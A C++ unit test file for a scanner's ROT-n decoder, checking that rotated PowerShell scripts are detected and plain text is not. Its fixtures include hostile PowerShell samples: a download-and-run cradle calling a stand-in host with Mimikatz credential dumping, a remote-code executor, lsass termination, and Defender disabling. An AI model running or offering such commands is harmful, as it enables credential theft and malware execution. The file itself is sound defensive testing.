#include "decoders/rotation.h"

#include <random>
#include <string>

#include "gtest/gtest.h"

namespace sbscan::decoders {
namespace {

std::string Rot(std::string_view s, int n) {
  std::string out;
  RotateLetters(s, n, &out);
  return out;
}

const char* const kScripts[] = {
    "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/"
    "p.ps1'); Invoke-Mimikatz -DumpCreds",
    "function Invoke-Payload { param([string]$Url) $wc = New-Object "
    "System.Net.WebClient; $s = $wc.DownloadString($Url); "
    "Invoke-Expression $s }",
    "Get-Process | Where-Object { $_.Name -eq 'lsass' } | ForEach-Object { "
    "Stop-Process -Id $_.Id -Force }",
    "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference "
    "-ExclusionPath C:\\Windows\\Temp; Start-Process C:\\Windows\\Temp\\a.exe",
};

TEST(RotationTest, RotateLetters) {
  EXPECT_EQ(Rot("Write-Host 'abc XYZ' 123", 13), "Jevgr-Ubfg 'nop KLM' 123");
  EXPECT_EQ(Rot(Rot("Invoke-Expression", 13), 13), "Invoke-Expression");
  EXPECT_EQ(Rot("abz", -1), "zay");
  EXPECT_EQ(Rot("abz", 27), "bca");
  std::string out = ">";
  RotateLetters(std::string("a\0b", 3), 1, &out);
  EXPECT_EQ(out, std::string(">b\0c", 4));  // UTF-16LE passes through
}

TEST(RotationTest, DetectsRot13Commands) {
  // As a ROT13 loader stores them, e.g.
  //   $s = 'VRK (Arj-Bowrpg ...'; iex (rot13 $s)
  for (const char* script : kScripts) {
    const std::string rotated = Rot(script, 13);
    RotationResult r;
    EXPECT_EQ(DetectRotation(rotated, &r), 13) << rotated;
    EXPECT_GE(r.score, 0.5);
    EXPECT_EQ(Rot(rotated, r.n), script);
  }
}

TEST(RotationTest, DetectsEveryShift) {
  const std::string script = std::string(kScripts[1]) + "; " + kScripts[2];
  for (int n = 1; n < 26; ++n) {
    const std::string encoded = Rot(script, 26 - n);  // decodes with +n
    RotationResult r;
    EXPECT_EQ(DetectRotation(encoded, &r), n);
    EXPECT_EQ(Rot(encoded, r.n), script);
  }
}

TEST(RotationTest, ClearScriptsAreNotRotated) {
  for (const char* script : kScripts) {
    EXPECT_EQ(DetectRotation(script), 0) << script;
  }
}

TEST(RotationTest, BenignTextNotDetected) {
  const char* texts[] = {
      "The quick brown fox jumps over the lazy dog. Get the new report from "
      "the shared folder, then set up the meeting and write a summary for "
      "the team before the end of the week. If you have questions, ask.",
      "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do "
      "eiusmod tempor incididunt ut labore et dolore magna aliqua.",
      "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABp"
      "AGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAA=",
      "aGVsbG8gd29ybGQgdGhpcyBpcyBqdXN0IHNvbWUgdGV4dA== "
      "x_9f3kQzLmWvB2 tmpVarName_01 HKLM_SOFTWARE_Vendor_App",
      "C:\\Program Files\\Contoso\\bin\\app.exe --config=prod.yaml "
      "--log-level=debug --retry=3 --timeout=30s",
      "",
  };
  for (const char* t : texts) {
    EXPECT_EQ(DetectRotation(t), 0) << t;
    for (int n = 1; n < 26; ++n) {
      EXPECT_EQ(DetectRotation(Rot(t, n)), 0) << n << " " << t;
    }
  }
}

TEST(RotationTest, RandomLettersNotDetected) {
  std::mt19937 rng(9);
  const std::string alphabet =
      "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ -$().'";
  for (int t = 0; t < 500; ++t) {
    std::string s(200 + rng() % 800, ' ');
    for (char& c : s) c = alphabet[rng() % alphabet.size()];
    EXPECT_EQ(DetectRotation(s), 0) << s;
  }
}

}  // namespace
}  // namespace sbscan::decoders
